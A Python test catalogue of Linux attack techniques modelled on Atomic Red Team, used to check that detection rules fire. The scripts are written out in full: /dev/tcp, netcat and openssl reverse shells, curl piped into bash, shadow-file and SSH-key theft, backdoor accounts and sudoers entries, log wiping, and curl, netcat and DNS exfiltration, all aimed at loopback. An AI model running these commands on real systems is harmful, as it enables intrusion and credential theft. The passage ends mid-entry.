"""The attack catalogue: Linux techniques modelled on the public Atomic Red Team tests, each a
bash script run for real as root on the test machine, with its cleanup, the default rules
that must catch it and, for the rules it introduces, a benign look-alike they must not catch.

Our own pick and our own scripts (not copied): each names the ATT&CK technique and the Atomic
test it follows. Every network target is loopback. `docs/detections.md` is rendered from
this table (`render_doc`), and a test keeps it in step.

Scripts run as `bash FILE` with a prelude that gives them `$W` (a fresh work directory under
/tmp, removed afterwards), `$S` (a directory kept for the cleanup), `$TAG` (unique per run), `free_port`, `serve DIR` (an HTTP server
on loopback, `$PORT`), `listen_sink` (a TCP sink on loopback, `$SINK`) and `bg PID...`
(processes killed at exit). Payloads that attackers deliver as a command line are run as
`bash -c '...'` so the rules see them the way they arrive.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = r"""
set -u
W=$(mktemp -d /tmp/atomic-work-XXXXXX)
_BG=()
bg() { _BG+=("$@"); }
_end() { for p in "${_BG[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done; rm -rf "$W"; }
trap _end EXIT
free_port() {
    python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}
wait_port() {
    python3 - "$1" <<'PY'
import socket, sys, time
for _ in range(100):
    try:
        socket.create_connection(("127.0.0.1", int(sys.argv[1])), 0.2).close()
        break
    except OSError:
        time.sleep(0.05)
PY
}
serve() {
    PORT=$(free_port)
    python3 -m http.server --bind 127.0.0.1 --directory "$1" "$PORT" >/dev/null 2>&1 &
    bg $!
    wait_port "$PORT"
}
listen_sink() {
    SINK=$(free_port)
    python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(8); s.settimeout(8)
while True:
    try:
        c, _ = s.accept()
    except OSError:
        break
    c.settimeout(2)
    try:
        while c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
' "$SINK" &
    bg $!
    wait_port "$SINK"
}
CLOSED=9   # the discard port: nothing listens there on this machine
"""


@dataclass(frozen=True)
class Technique:
    """One technique: what it is, how it runs, what must catch it.

    `rules`: every one of them must report a finding whose chain holds the script's process.
    `benign`: a look-alike that must not make `quiet` (default: `rules`) fire.
    """

    id: str
    name: str
    tactic: str
    atomic: str
    script: str
    rules: tuple[str, ...]
    cleanup: str = ""
    benign: str = ""
    quiet: tuple[str, ...] | None = None

    @property
    def slug(self) -> str:
        base = f"{self.id}-{self.name}".lower()
        return "".join(c if c.isalnum() else "-" for c in base).strip("-")[:60]

    @property
    def quiet_rules(self) -> tuple[str, ...]:
        if not self.benign:
            return ()
        return self.rules if self.quiet is None else self.quiet


T = Technique
EXECUTION, PERSISTENCE, PRIVESC, EVASION = (
    "execution", "persistence", "privilege escalation", "defense evasion")  # fmt: skip
CREDS, DISCOVERY, LATERAL, COLLECTION = (
    "credential access", "discovery", "lateral movement", "collection")  # fmt: skip
C2, EXFIL, IMPACT = "command and control", "exfiltration", "impact"

TECHNIQUES: tuple[Technique, ...] = (
    # -- execution -----------------------------------------------------------------------
    T("T1140", "Base64 command piped into bash", EXECUTION,
      "T1140 #1 Deobfuscate/Decode Files Or Information (base64 to a shell)",
      """ENC=$(printf 'id >/dev/null; uname >/dev/null' | base64 -w0)
bash -c "echo $ENC | base64 -d | bash"
""",
      ("Encoded command decoded into a shell", "Decoded data piped into a shell"),
      benign="bash -c 'printf aGVsbG8K | base64 -d > /dev/null'\n"),
    T("T1059.006", "Python pty shell one-liner", EXECUTION,
      "T1059.006 Python: spawn a shell through pty",
      """python3 -c 'import pty, os; os.environ["PS1"]=""; pty.spawn(["/bin/sh", "-c", "exit 0"])' </dev/null
""",
      ("Interpreter one-liner spawning a shell",),
      benign="python3 -c 'import os; print(os.getpid())' > /dev/null\n"),
    T("T1059.004", "Bash reverse shell over /dev/tcp", EXECUTION,
      "T1059.004 Unix shell: bash reverse shell through /dev/tcp",
      """listen_sink
timeout 3 bash -c "bash -i >& /dev/tcp/127.0.0.1/$SINK 0>&1" </dev/null || true
""",
      ("Reverse shell through /dev/tcp", "Shell made a network connection")),
    T("T1059.004", "Named pipe reverse shell", EXECUTION,
      "T1059.004 Unix shell: mkfifo and netcat reverse shell",
      """listen_sink
timeout 3 bash -c "rm -f $W/f; mkfifo $W/f; /bin/sh -i < $W/f 2>&1 | nc 127.0.0.1 $SINK > $W/f" || true
""",
      ("Named pipe shell relay",),
      benign="""mkfifo $W/p
bash -c "cat $W/p > /dev/null & echo hello > $W/p; wait"
"""),
    T("T1105", "Tool downloaded with curl and executed", EXECUTION,
      "T1105 Ingress Tool Transfer: curl download then execute",
      """mkdir -p $W/srv && cp /bin/true $W/srv/agent
serve $W/srv
curl -s -o $W/agent http://127.0.0.1:$PORT/agent
chmod +x $W/agent
$W/agent
""",
      ("Downloaded file executed", "Program run from a temporary directory")),
    T("T1105", "Script piped from curl into bash", EXECUTION,
      "T1059.004 / T1105: curl | bash installer pattern",
      """mkdir -p $W/srv && printf 'id > /dev/null\\n' > $W/srv/install.sh
serve $W/srv
bash -c "curl -s http://127.0.0.1:$PORT/install.sh | bash"
""",
      ("Downloader piped into a shell", "Download piped into a shell"),
      benign="""mkdir -p $W/srv && printf 'id\\n' > $W/srv/install.sh
serve $W/srv
bash -c "curl -s -o $W/install.sh http://127.0.0.1:$PORT/install.sh"
"""),
    T("T1027.004", "Payload compiled in /tmp", EXECUTION,
      "T1027.004 Compile After Delivery: C compile",
      """cd $W && printf 'int main(void){return 0;}\\n' > payload.c
gcc -o payload payload.c
./payload
""",
      ("Program compiled in a temporary directory",),
      benign="""D=$(mktemp -d /var/lib/atomic-build-XXXXXX)
cd "$D" && printf 'int main(void){return 0;}\\n' > prog.c && gcc -o prog prog.c && ./prog
cd / && rm -rf "$D"
"""),
    T("T1620", "Fileless execution from a memfd", EXECUTION,
      "T1620 Reflective Code Loading (memfd_create + execve)",
      """python3 - <<'PY'
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execve(fd, ["payload"], {})
os.waitpid(pid, 0)
PY
""",
      ("Fileless execution from memory",)),
    # -- persistence ---------------------------------------------------------------------
    T("T1136.001", "Local account created", PERSISTENCE,
      "T1136.001 #1 Create a user account on a Linux system",
      "useradd -M -s /usr/sbin/nologin atk$TAG\n",
      ("Local user account created",),
      cleanup="userdel atk$TAG 2>/dev/null || true\n"),
    T("T1136.001", "Second root account with uid 0", PERSISTENCE,
      "T1136.001 #5 Create a new user in Linux with root UID and GID",
      "useradd -o -u 0 -g 0 -M -s /usr/sbin/nologin atz$TAG\n",
      ("Account with uid 0 created",),
      cleanup="userdel -f atz$TAG 2>/dev/null || true\n",
      benign="useradd -M -u 64321 -s /usr/sbin/nologin atb$TAG; userdel atb$TAG\n"),
    T("T1098", "User added to the sudo group", PERSISTENCE,
      "T1098 Account Manipulation (privileged group membership)",
      """useradd -M -s /usr/sbin/nologin atg$TAG
usermod -a -G sudo atg$TAG
gpasswd -a atg$TAG adm >/dev/null
""",
      ("User added to a privileged group",),
      cleanup="userdel atg$TAG 2>/dev/null || true\n",
      benign="""useradd -M -s /usr/sbin/nologin atn$TAG
usermod -a -G users atn$TAG
userdel atn$TAG
"""),
    T("T1098.004", "SSH authorized_keys modified", PERSISTENCE,
      "T1098.004 #1 Modify SSH Authorized Keys",
      """mkdir -p /root/.ssh && chmod 700 /root/.ssh
cp -a /root/.ssh/authorized_keys $W/ak.bak 2>/dev/null || true
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAtomicAtomicAtomicAtomicAtomicAtomicAtomic atomic-$TAG" >> /root/.ssh/authorized_keys
""",
      ("SSH authorized_keys written",),
      cleanup="""sed -i "/atomic-$TAG/d" /root/.ssh/authorized_keys 2>/dev/null || true
[ -s /root/.ssh/authorized_keys ] || rm -f /root/.ssh/authorized_keys
"""),
    T("T1546.004", "Shell profile backdoored", PERSISTENCE,
      "T1546.004 #1 Add command to .bash_profile / .bashrc",
      'echo "# atomic-$TAG" >> /root/.bashrc\n',
      ("Shell profile written",),
      cleanup='sed -i "/atomic-$TAG/d" /root/.bashrc\n'),
    T("T1543.002", "Systemd service unit created", PERSISTENCE,
      "T1543.002 #1 Create Systemd Service",
      """printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/atomic-$TAG.service
""",
      ("Systemd unit written",),
      cleanup="rm -f /etc/systemd/system/atomic-$TAG.service\n"),
    T("T1053.003", "Cron job planted", PERSISTENCE,
      "T1053.003 #1 Cron - Replace crontab with referenced file, #2 Add script to cron folder",
      """echo "* * * * * root /bin/true # atomic-$TAG" > /etc/cron.d/atomic-$TAG
crontab -l > $W/crontab.bak 2>/dev/null || true
echo "*/5 * * * * /bin/true # atomic-$TAG" | crontab -
""",
      ("Cron job written", "Crontab installed from the command line"),
      cleanup="""rm -f /etc/cron.d/atomic-$TAG
crontab -l 2>/dev/null | grep -v "atomic-$TAG" | crontab - 2>/dev/null || true
crontab -l 2>/dev/null | grep -q . || crontab -r 2>/dev/null || true
""",
      benign="crontab -l > /dev/null 2>&1 || true\n",
      quiet=("Crontab installed from the command line",)),
    T("T1053.002", "At job scheduled", PERSISTENCE,
      "T1053.002 #1 At - Schedule a job",
      'echo "/bin/true # atomic-$TAG" | at now + 30 minutes 2>/dev/null\n',
      ("At job scheduled",),
      cleanup="""for j in $(atq 2>/dev/null | awk '{print $1}'); do
  at -c "$j" 2>/dev/null | grep -q "atomic-$TAG" && atrm "$j"
done
true
""",
      benign="atq > /dev/null 2>&1 || true\n"),
    T("T1053.006", "Transient systemd timer", PERSISTENCE,
      "T1053.006 #3 Create a transient systemd service and timer",
      "systemd-run --on-active=1h --unit=atomic-$TAG /bin/true 2>/dev/null || true\n",
      ("Transient timer or service started with systemd-run",),
      benign="systemd-run --version > /dev/null\n"),
    T("T1037.004", "rc.local boot script", PERSISTENCE,
      "T1037.004 #2 rc.local",
      """[ -e /etc/rc.local ] && cp -a /etc/rc.local $W/rc.bak
echo "# atomic-$TAG" >> /etc/rc.local
""",
      ("Boot or init script written",),
      cleanup="""if grep -q "^# atomic-$TAG$" /etc/rc.local 2>/dev/null; then
  sed -i "/^# atomic-$TAG$/d" /etc/rc.local
  [ -s /etc/rc.local ] || rm -f /etc/rc.local
fi
""",
      benign="ls /etc/init.d > /dev/null; cat /etc/rc.local > /dev/null 2>&1 || true\n"),
    T("T1574.006", "Dynamic linker search path added", PERSISTENCE,
      "T1574.006 Dynamic Linker Hijacking (ld.so.conf.d)",
      "echo /opt/atomic-$TAG/lib > /etc/ld.so.conf.d/atomic-$TAG.conf\n",
      ("Dynamic linker search path changed",),
      cleanup="rm -f /etc/ld.so.conf.d/atomic-$TAG.conf\n",
      benign="cat /etc/ld.so.conf.d/*.conf > /dev/null; ldconfig -p > /dev/null\n"),
    T("T1574.006", "ld.so.preload written", PERSISTENCE,
      "T1574.006 #1 Shared Library Injection via /etc/ld.so.preload",
      """if [ -e /etc/ld.so.preload ]; then cp -a /etc/ld.so.preload $S/preload.bak; fi
echo "" >> /etc/ld.so.preload
""",
      ("Dynamic linker preload written",),
      cleanup="""if [ -e $S/preload.bak ]; then cp -a $S/preload.bak /etc/ld.so.preload
elif [ ! -s /etc/ld.so.preload ] || ! grep -q . /etc/ld.so.preload; then rm -f /etc/ld.so.preload; fi
"""),
    T("T1556.003", "PAM configuration added", CREDS,
      "T1556.003 #1 Malicious PAM rule",
      'echo "auth sufficient pam_permit.so # atomic-$TAG" > /etc/pam.d/atomic-$TAG\n',
      ("PAM configuration changed",),
      cleanup="rm -f /etc/pam.d/atomic-$TAG\n",
      benign="cat /etc/pam.d/common-auth > /dev/null\n"),
    T("T1098.004", "sshd configured to allow root logins", PERSISTENCE,
      "T1098.004 / T1021.004: sshd_config.d drop-in (PermitRootLogin yes)",
      """mkdir -p /etc/ssh/sshd_config.d
echo "PermitRootLogin yes # atomic-$TAG" > /etc/ssh/sshd_config.d/atomic-$TAG.conf
""",
      ("SSH server configuration changed",),
      cleanup="rm -f /etc/ssh/sshd_config.d/atomic-$TAG.conf\n",
      benign="cat /etc/ssh/ssh_config > /dev/null\n"),
    T("T1547.006", "Kernel module load attempted", PERSISTENCE,
      "T1547.006 #1 Linux - Load Kernel Module via insmod",
      "insmod $W/atomic-$TAG.ko 2>/dev/null || true\n",
      ("Kernel module tool run",)),
    # -- privilege escalation ------------------------------------------------------------
    T("T1548.001", "Set-uid bit set on a copy of a shell", PRIVESC,
      "T1548.001 #1 Make and modify binary from C source / #3 Set a SetUID flag on file",
      """cp /bin/true $W/suid
chmod u+s $W/suid
chmod 4755 $W/suid
""",
      ("Set-id bit set with chmod",),
      benign="cp /bin/true $W/plain; chmod 755 $W/plain; chmod u+x $W/plain\n"),
    T("T1548.001", "File capability granted with setcap", PRIVESC,
      "T1548.001 #9 Provide the SetUID capability to a file",
      "cp /bin/true $W/capbin\nsetcap cap_setuid+ep $W/capbin\n",
      ("File capability set", "File capability attribute written"),
      benign="cp /bin/true $W/capbin; getcap $W/capbin\n"),
    T("T1548.003", "Sudoers drop-in granting NOPASSWD", PRIVESC,
      "T1548.003 Sudo and Sudo Caching (sudoers modification)",
      """echo "atomic-$TAG ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/atomic-$TAG
chmod 440 /etc/sudoers.d/atomic-$TAG
""",
      ("Sudoers changed",),
      cleanup="rm -f /etc/sudoers.d/atomic-$TAG\n"),
    T("T1055.008", "ptrace attach to a running process", PRIVESC,
      "T1055.008 Ptrace System Calls (attach with strace)",
      """sleep 5 & V=$!; bg $V
timeout 2 strace -p $V -e trace=none -o /dev/null || true
""",
      ("Process attached to another with ptrace",)),
    T("T1059.004", "Shell escape through tar, find and awk", PRIVESC,
      "T1548 (GTFOBins-style): tar --checkpoint-action, find -exec sh -p, awk system",
      """tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=true
find $W -maxdepth 0 -exec /bin/sh -p \\; -quit < /dev/null
awk 'BEGIN {system("/bin/sh -c true")}'
""",
      ("Shell escape through another program",),
      benign="""find $W -maxdepth 0 -exec sh -c 'true' \\;
tar -cf /dev/null /etc/hostname
awk 'BEGIN {print 1}' > /dev/null
"""),
    # -- defense evasion -----------------------------------------------------------------
    T("T1070.003", "Shell history disabled and erased", EVASION,
      "T1070.003 #1 Clear Bash history (rm), #6 Disable history collection",
      """bash -c 'unset HISTFILE; export HISTFILESIZE=0; set +o history; true'
echo ls > $W/.bash_history
rm -f $W/.bash_history
""",
      ("Shell history disabled", "Command erasing shell history or logs"),
      benign="bash -c 'echo $HISTSIZE > /dev/null'\n",
      quiet=("Shell history disabled",)),
    T("T1070.002", "Log file truncated and removed", EVASION,
      "T1070.002 #1 rm -rf / #2 truncate system logs",
      """echo entry > /var/log/atomic-$TAG.log
truncate -s 0 /var/log/atomic-$TAG.log
rm -f /var/log/atomic-$TAG.log
""",
      ("Log file deleted or truncated", "Command erasing shell history or logs"),
      cleanup="rm -f /var/log/atomic-$TAG.log\n"),
    T("T1070.006", "Timestomping with touch", EVASION,
      "T1070.006 #1 Set a file's access timestamp, #3 Modify file timestamps using reference file",
      """touch $W/planted
touch -t 200001010000 $W/planted
touch -r /etc/hostname $W/planted
""",
      ("File timestamps set by hand", "File timestamps set explicitly"),
      benign="touch $W/fresh\n"),
    T("T1222.002", "Immutable attribute toggled", EVASION,
      "T1222.002 #8 chattr -i on a file",
      """D=$(mktemp -d /var/tmp/atomic-XXXXXX); touch $D/locked
chattr +i $D/locked 2>/dev/null; chattr -i $D/locked 2>/dev/null
rm -rf $D
""",
      ("Immutable or append-only attribute changed",
       "Immutable or append-only flag set on a file"),
      benign="touch $W/f; lsattr $W/f > /dev/null 2>&1 || true\n"),
    T("T1562.012", "Audit watch removed with auditctl", EVASION,
      "T1562.012 Disable or Modify Linux Audit System (auditctl)",
      "auditctl -W /nonexistent/atomic-$TAG -p wa 2>/dev/null || true\n",
      ("Audit rules flushed or auditing disabled",),
      benign="auditctl -s > /dev/null 2>&1 || true\n"),
    T("T1562.001", "Security service stopped", EVASION,
      "T1562.001 #6 Stop/disable auditd (systemctl)",
      "systemctl stop auditd 2>/dev/null || true\nsystemctl disable falco 2>/dev/null || true\n",
      ("Security service stopped or disabled",),
      benign="systemctl status cron > /dev/null 2>&1 || true\n"),
    T("T1562.001", "Security daemon killed by name", EVASION,
      "T1562.001 Impair Defenses: kill a security agent with pkill",
      "pkill -0 -x falco || true\npkill -0 -x osqueryd || true\n",
      ("Security service killed by name",),
      benign="pkill -0 -x atomic-$TAG || true\n"),
    T("T1562.004", "Firewall rules flushed", EVASION,
      "T1562.004 #8 Flush iptables rules (in a private network namespace)",
      "unshare -n sh -c 'iptables -F; iptables -P INPUT ACCEPT; iptables -X' 2>/dev/null || true\n",
      ("Firewall disabled or flushed",),
      benign="unshare -n iptables -L -n > /dev/null 2>&1 || true\n"),
    T("T1562.001", "SELinux set to permissive", EVASION,
      "T1562.001 #3 Disable SELinux (setenforce 0)",
      "setenforce 0 2>/dev/null || true\n",
      ("Mandatory access control turned off",),
      benign="getenforce > /dev/null 2>&1 || true\n"),
    T("T1562.001", "dmesg restriction lifted", EVASION,
      "T1562.001 Impair Defenses: weaken kernel hardening with sysctl",
      """OLD=$(sysctl -n kernel.dmesg_restrict)
sysctl -w kernel.dmesg_restrict=0 > /dev/null
sysctl -w kernel.dmesg_restrict=$OLD > /dev/null
""",
      ("Kernel hardening setting weakened",),
      benign="sysctl -n kernel.randomize_va_space > /dev/null\n"),
    T("T1564.001", "Program run from a hidden directory", EVASION,
      "T1564.001 #1 Create a hidden file in a hidden directory",
      """mkdir -p $W/.hidden && cp /bin/true $W/.hidden/.payload
$W/.hidden/.payload
""",
      ("Program run from a hidden directory",),
      benign="mkdir -p $W/.cache/tool && cp /bin/true $W/.cache/tool/run && $W/.cache/tool/run\n"),
    T("T1036.004", "Process disguised as a kernel worker", EVASION,
      "T1036.004 Masquerade Task or Service (argv[0] as a kernel thread)",
      "(exec -a '[kworker/0:2]' sleep 0.2)\n",
      ("Process disguised as a kernel thread",),
      benign="(exec -a 'worker-2' sleep 0.1)\n"),
    T("T1036.005", "Copy of sleep named sshd", EVASION,
      "T1036.005 #1 Execute a process from a directory masquerading as the current parent",
      "cp /bin/sleep $W/sshd\n$W/sshd 0.1\n",
      ("System program name run from an unusual place",),
      benign="cp /bin/sleep $W/napper\n$W/napper 0.1\n"),
    T("T1036.004", "Process renamed to a kernel thread name", EVASION,
      "T1036.004 / T1564: prctl(PR_SET_NAME) masquerading",
      """python3 -c 'import ctypes, time; ctypes.CDLL(None).prctl(15, b"kworker/1:1", 0, 0, 0); time.sleep(0.2)'
""",
      ("Process renamed itself to a system name",),
      benign="""python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"report-worker", 0, 0, 0)'
"""),
    T("T1070.004", "File shredded", EVASION,
      "T1070.004 #1 Delete a single file (shred)",
      "echo secret > $W/evidence\nshred -u $W/evidence\n",
      ("Secure deletion tool run",),
      benign="echo x > $W/old\nrm -f $W/old\n"),
    # -- credential access ---------------------------------------------------------------
    T("T1003.008", "Password hashes dumped", CREDS,
      "T1003.008 #1 Access /etc/shadow (Local), #2 Access /etc/passwd and /etc/shadow",
      "cat /etc/shadow > /dev/null\ncp /etc/shadow $W/hashes\n",
      ("Password hashes read by a command", "Shadow file read by a non-system program"),
      benign="cat /etc/passwd > /dev/null\n"),
    T("T1552.001", "Files searched for passwords", CREDS,
      "T1552.001 #3 Extract passwords with grep",
      """grep -ri password /etc/ssh > /dev/null 2>&1 || true
find /root -maxdepth 3 -name 'id_rsa' > /dev/null 2>&1 || true
""",
      ("Search for credentials in files",),
      benign="""grep -r PermitRootLogin /etc/ssh > /dev/null 2>&1 || true
find /etc -maxdepth 1 -name hostname > /dev/null
"""),
    T("T1552.004", "SSH private key copied", CREDS,
      "T1552.004 #2 Copy Private SSH Keys with cp",
      """mkdir -p $W/victim/.ssh && ssh-keygen -q -t ed25519 -N '' -f $W/victim/.ssh/id_ed25519
cp $W/victim/.ssh/id_ed25519 $W/loot
""",
      ("Private key or cloud credentials copied",),
      benign="""mkdir -p $W/me/.ssh && ssh-keygen -q -t ed25519 -N '' -f $W/me/.ssh/id_ed25519
cat $W/me/.ssh/id_ed25519.pub > /dev/null
"""),
    T("T1003.007", "Process environment and memory read through /proc", CREDS,
      "T1003.007 #1 Dump individual process memory with sh (Local)",
      """sleep 5 & V=$!; bg $V
grep -a -c PATH /proc/$V/environ > /dev/null || true
dd if=/proc/$V/mem bs=1 count=1 skip=4194304 of=/dev/null 2>/dev/null || true
""",
      ("Process memory or environment read through /proc",),
      benign="sleep 2 & V=$!; bg $V\ncat /proc/$V/status > /dev/null\n"),
    T("T1552.003", "Bash history searched for secrets", CREDS,
      "T1552.003 #1 Search Through Bash History",
      """printf 'mysql -u root -pS3cret\\n' > $W/.bash_history
grep -i pass $W/.bash_history > /dev/null
""",
      ("Shell history read by a command",),
      benign="printf 'note\\n' > $W/notes.txt\ngrep -i pass $W/notes.txt > /dev/null || true\n"),
    T("T1040", "Packet capture on loopback", CREDS,
      "T1040 #1 Packet Capture Linux using tshark or tcpdump",
      "timeout 2 tcpdump -i lo -c 1 -w /dev/null > /dev/null 2>&1 || true\n",
      ("Packet capture started", "Raw or packet socket opened"),
      benign="ip link show lo > /dev/null\n"),
    T("T1003.008", "Shadow read refused for an unprivileged user", CREDS,
      "T1003.008 #1 Access /etc/shadow (Local), as nobody",
      "setpriv --reuid=65534 --regid=65534 --clear-groups cat /etc/shadow 2>/dev/null || true\n",
      ("Shadow file read by a non-system program",)),
    # -- discovery -----------------------------------------------------------------------
    T("T1082", "System information burst", DISCOVERY,
      "T1082 #3 List OS Information, #4 Linux VM Check",
      """uname -a > /dev/null; hostname > /dev/null; lscpu > /dev/null; uptime > /dev/null
df -h > /dev/null; systemd-detect-virt > /dev/null 2>&1 || true
""",
      ("Discovery burst from one shell",),
      benign="uname -r > /dev/null; hostname > /dev/null; id > /dev/null; whoami > /dev/null\n"),
    T("T1033", "User and account discovery burst", DISCOVERY,
      "T1033 #1 System Owner/User Discovery, T1087.001 #1 Enumerate all accounts",
      """whoami > /dev/null; id > /dev/null; groups > /dev/null; who > /dev/null; w > /dev/null
getent passwd > /dev/null; lastlog > /dev/null 2>&1 || true
""",
      ("Discovery burst from one shell",)),
    T("T1016", "Network configuration discovery burst", DISCOVERY,
      "T1016 #2 System Network Configuration Discovery (Linux)",
      """ip addr > /dev/null; ip route > /dev/null; arp -a > /dev/null 2>&1 || true
netstat -rn > /dev/null; ss -s > /dev/null; hostname -I > /dev/null
""",
      ("Discovery burst from one shell",)),
    T("T1057", "Process and connection discovery burst", DISCOVERY,
      "T1057 #1 Process Discovery - ps, T1049 #3 System Network Connections Discovery",
      """ps aux > /dev/null; pgrep -a init > /dev/null || true; top -bn1 > /dev/null
lsof -i > /dev/null 2>&1 || true; ss -tunap > /dev/null; netstat -ant > /dev/null
""",
      ("Discovery burst from one shell",)),
    T("T1518.001", "Security software discovery", DISCOVERY,
      "T1518.001 #3 Security Software Discovery - ps (Linux)",
      "ps aux | grep -e auditd -e falco -e osqueryd > /dev/null || true\n",
      ("Security software discovery",),
      benign="ps aux | grep -c atomic > /dev/null || true\n"),
    T("T1046", "Port scan of loopback with nmap", DISCOVERY,
      "T1046 #2 Port Scan Nmap",
      "nmap -sT -Pn -n -p 41000-41040 127.0.0.1 > /dev/null 2>&1 || true\n",
      ("Network scanner run", "Port sweep from one process"),
      benign="""nmap --version > /dev/null
python3 -c '
import socket
for port in (41000, 41001, 41002):
    try:
        socket.create_connection(("127.0.0.1", port), 0.5).close()
    except OSError:
        pass
'
"""),
    T("T1083", "Search for set-uid programs", DISCOVERY,
      "T1083 File and Directory Discovery / T1548.001 recon (find -perm -4000)",
      "find /usr/bin -perm -4000 -type f > /dev/null 2>&1\n",
      ("Search for set-id programs",),
      benign="find /usr/bin -perm -0755 -name ls > /dev/null 2>&1\n"),
    # -- lateral movement ----------------------------------------------------------------
    T("T1021.004", "SSH without host key checking", LATERAL,
      "T1021.004 Remote Services: SSH (scripted login accepting any host key)",
      """ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \\
    -o ConnectTimeout=1 -p $CLOSED root@127.0.0.1 true 2>/dev/null || true
""",
      ("SSH with host key checking turned off",),
      benign="ssh -V 2>/dev/null\n"),
    T("T1570", "Tool pushed to another host with scp", LATERAL,
      "T1570 Lateral Tool Transfer (scp)",
      """cp /bin/true $W/tool
scp -o BatchMode=yes -o ConnectTimeout=1 -P $CLOSED $W/tool root@127.0.0.1:/tmp/ 2>/dev/null || true
""",
      ("Remote file copy to another host",),
      benign="cp /bin/true $W/a; scp $W/a $W/b\n"),
    # -- collection ----------------------------------------------------------------------
    T("T1560.001", "Credentials archived with a password", COLLECTION,
      "T1560.001 #1 Compress Data for Exfiltration With Rar/zip (password)",
      """tar czf $W/loot.tgz /etc/passwd /etc/ssh 2>/dev/null
zip -q -P secret $W/loot.zip /etc/hostname
""",
      ("Sensitive files archived", "Archive protected with a password"),
      benign="tar czf $W/conf.tgz /etc/hostname 2>/dev/null; zip -q $W/conf.zip /etc/hostname\n"),
    T("T1074.001", "Data staged in /tmp", COLLECTION,
      "T1074.001 #2 Stage data from Discovery.sh",
      "mkdir -p $W/stage && cp -r /etc/ssh $W/stage/\n",
      ("Data staged in a temporary directory",),
      benign="cp /etc/hostname $W/\n"),
    # -- command and control ---------------------------------------------------------------
    T("T1572", "SSH dynamic port forward", C2,
      "T1572 Protocol Tunneling (ssh -D SOCKS proxy)",
      """ssh -o BatchMode=yes -o ConnectTimeout=1 -N -D 127.0.0.1:1080 -p $CLOSED 127.0.0.1 2>/dev/null || true
""",
      ("SSH tunnel or SOCKS proxy opened",),
      benign="ssh -o BatchMode=yes -o ConnectTimeout=1 -p $CLOSED 127.0.0.1 true 2>/dev/null || true\n"),
    T("T1090", "socat port forwarder", C2,
      "T1090.001 Internal Proxy (socat relay)",
      """listen_sink
P=$(free_port)
timeout 2 socat TCP-LISTEN:$P,bind=127.0.0.1,reuseaddr,fork TCP:127.0.0.1:$SINK &
bg $!; wait_port $P
""",
      ("Port forwarder started",),
      benign="socat -V > /dev/null\n"),
    T("T1573.002", "Reverse shell over openssl s_client", C2,
      "T1573.002 Encrypted Channel: asymmetric (openssl reverse shell)",
      """cd $W && openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -subj /CN=atomic -days 1 2>/dev/null
P=$(free_port)
timeout 4 openssl s_server -quiet -key k.pem -cert c.pem -accept 127.0.0.1:$P < /dev/null > /dev/null 2>&1 &
bg $!; wait_port $P
timeout 3 bash -c "mkfifo $W/s; /bin/sh -i < $W/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:$P > $W/s" 2>/dev/null || true
""",
      ("Shell over an encrypted client channel", "Named pipe shell relay"),
      benign="""P=$(free_port)
timeout 2 bash -c "echo | openssl s_client -connect 127.0.0.1:$P" > /dev/null 2>&1 || true
""",
      quiet=("Shell over an encrypted client channel",)),
    T("T1496", "Miner pointed at a mining pool", IMPACT,
      "T1496 Resource Hijacking (miner with a Stratum pool URL)",
      """cp /bin/sleep $W/xmrig
$W/xmrig 0.1 --donate-level 1 -o stratum+tcp://127.0.0.1:3333 2>/dev/null || true
""",
      ("Miner or mining pool address on the command line",),
      benign="cp /bin/sleep $W/worker; $W/worker 0.1 -o tcp://127.0.0.1:3333 2>/dev/null || true\n"),
    # -- exfiltration --------------------------------------------------------------------
    T("T1048.003", "File uploaded with curl", EXFIL,
      "T1048.003 #2 Exfiltration Over Alternative Protocol - HTTP (curl)",
      """mkdir -p $W/srv && serve $W/srv
curl -s -m 3 -T /etc/hostname http://127.0.0.1:$PORT/up > /dev/null || true
curl -s -m 3 --data-binary @/etc/hostname http://127.0.0.1:$PORT/post > /dev/null || true
""",
      ("File uploaded with a command-line HTTP client",),
      benign="""mkdir -p $W/srv && serve $W/srv
curl -s -m 3 -d 'q=1' http://127.0.0.1:$PORT/ > /dev/null || true
"""),
    T("T1048.003", "File sent with netcat", EXFIL,
      "T1048.003 Exfiltration over an unencrypted protocol (netcat)",
      """listen_sink
bash -c "nc -N -w 2 127.0.0.1 $SINK < /etc/hostname" || true
""",
      ("File sent with netcat or a raw socket",),
      benign="""listen_sink
bash -c "echo hello | nc -N -w 2 127.0.0.1 $SINK" || true
"""),
    T("T1030", "File split into transfer-size chunks", EXFIL,
      "T1030 #1 Data Transfer Size Limits (split)",
      "split -b 5000 /etc/services $W/part_\n",
      ("File split into chunks",),
      benign="split -l 200 /etc/services $W/lines_\n"),
    T("T1048.003", "Data encoded into DNS queries", EXFIL,
      "T1048.003 Exfiltration Over Alternative Protocol - DNS (encoded labels)",
      """L=$(echo "atomic exfiltrated data $TAG" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
dig @127.0.0.1 -p $CLOSED +tries=1 +time=1 "$L.exfil.test" > /dev/null 2>&1 || true
""",
      ("Data sent in DNS queries",),
      benign="dig @127.0.0.1 -p $CLOSED +tries=1 +time=1 www.example.test > /dev/null 2>&1 || true\n"),
    # -- impact --------------------------------------------------------------------------
    T("T1486", "Files encrypted with openssl and gpg", IMPACT,
      "T1486 #2 Encrypt files using openssl / #1 using gpg (Linux)",
      """echo data > $W/doc.txt
openssl enc -aes-256-cbc -pbkdf2 -k atomic -in $W/doc.txt -out $W/doc.txt.enc
mkdir -m 700 $W/gnupg
